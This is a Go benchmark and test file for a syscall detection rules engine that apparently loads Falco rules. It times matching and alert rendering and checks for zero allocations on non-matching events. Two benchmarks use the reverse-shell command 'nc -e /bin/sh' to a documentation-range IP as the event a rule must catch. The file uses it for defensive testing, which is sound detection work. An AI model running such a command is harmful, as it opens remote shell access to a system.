package rules

import (
	"testing"
)

// Benchmarks report ns/op and allocs/op for one event through the engine,
// and events/s (per core, as they run on one goroutine).

func benchEngine(b *testing.B, withUpstream bool) *Engine {
	b.Helper()
	var files []File
	if withUpstream {
		files = readUpstream(b, "falco_rules.yaml", "falco-incubating_rules.yaml", "falco-sandbox_rules.yaml")
	}
	eng, diags := LoadEngine(false, files...)
	if diags.HasErrors() {
		b.Fatal(diags.Err())
	}
	return eng
}

func benchExec(b testing.TB, name, cmdline string) *SyscallEvent {
	return sysEvent(b, map[string]any{
		"evt.type": "execve", "evt.num": 42, "proc.name": name, "proc.exe": "/usr/bin/" + name,
		"proc.exepath": "/usr/bin/" + name, "proc.cmdline": cmdline, "proc.args": cmdline[len(name):],
		"proc.pid": 4242, "proc.pname": "bash", "proc.pcmdline": "bash", "proc.aname[2]": "containerd-shim",
		"proc.aname[3]": "systemd", "proc.tty": 0, "proc.cwd": "/app", "user.uid": 1000, "user.name": "app",
		"user.loginuid": -1, "group.gid": 1000, "container.id": "ee97d9c4186f", "container.name": "web",
		"container.image.repository": "docker.io/library/nginx", "container.image.tag": "1.27",
		"k8s.ns.name": "default", "k8s.pod.name": "web-1", "evt.arg.flags": "0",
	})
}

func benchConnect(b testing.TB) *SyscallEvent {
	return sysEvent(b, map[string]any{
		"evt.type": "connect", "evt.num": 43, "evt.rawres": 0, "evt.res": "SUCCESS", "proc.name": "nginx",
		"proc.cmdline": "nginx -g daemon off;", "proc.pname": "containerd-shim", "user.uid": 101, "user.name": "nginx",
		"container.id": "ee97d9c4186f", "container.image.repository": "docker.io/library/nginx",
		"fd.typechar": "4", "fd.type": "ipv4", "fd.l4proto": "tcp", "fd.num": 7, "fd.connected": true,
		"fd.cip": "10.244.1.5", "fd.cport": 40000, "fd.sip": "10.96.0.10", "fd.sport": 53,
		"fd.name": "10.244.1.5:40000->10.96.0.10:53", "k8s.ns.name": "default",
	})
}

func runBench(b *testing.B, eng *Engine, ev *SyscallEvent, wantMatch bool) {
	buf := make([]*Rule, 0, 8)
	if got := len(eng.MatchSyscall(buf, ev)) > 0; got != wantMatch {
		b.Fatalf("match = %v, want %v", got, wantMatch)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for b.Loop() {
		buf = eng.MatchSyscall(buf[:0], ev)
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

func BenchmarkBuiltinExecNoMatch(b *testing.B) {
	runBench(b, benchEngine(b, false), benchExec(b, "ls", "ls -la /app"), false)
}

func BenchmarkBuiltinExecMatch(b *testing.B) {
	runBench(b, benchEngine(b, false), benchExec(b, "nc", "nc -e /bin/sh 203.0.113.7 4444"), true)
}

func BenchmarkBuiltinConnectNoMatch(b *testing.B) {
	runBench(b, benchEngine(b, false), benchConnect(b), false)
}

func BenchmarkUpstreamExecNoMatch(b *testing.B) {
	runBench(b, benchEngine(b, true), benchExec(b, "ls", "ls -la /app"), false)
}

func BenchmarkUpstreamConnectNoMatch(b *testing.B) {
	runBench(b, benchEngine(b, true), benchConnect(b), false)
}

// BenchmarkBuiltinExecRender includes rendering the alert output.
func BenchmarkBuiltinExecRender(b *testing.B) {
	eng := benchEngine(b, false)
	ev := benchExec(b, "nc", "nc -e /bin/sh 203.0.113.7 4444")
	buf := make([]*Rule, 0, 8)
	b.ReportAllocs()
	for b.Loop() {
		buf = eng.MatchSyscall(buf[:0], ev)
		for _, r := range buf {
			_ = r.FormatSyscall(ev)
		}
	}
	b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
}

// TestNoAllocNonMatching asserts zero allocations for events that match no
// rule.
func TestNoAllocNonMatching(t *testing.T) {
	eng := mustEngine(t, false)
	buf := make([]*Rule, 0, 8)
	for _, ev := range []*SyscallEvent{benchExec(t, "ls", "ls -la"), benchConnect(t)} {
		if n := testing.AllocsPerRun(1000, func() { buf = eng.MatchSyscall(buf[:0], ev) }); n != 0 {
			t.Errorf("%s: %v allocs per event, want 0", ev.Type(), n)
		}
	}
}
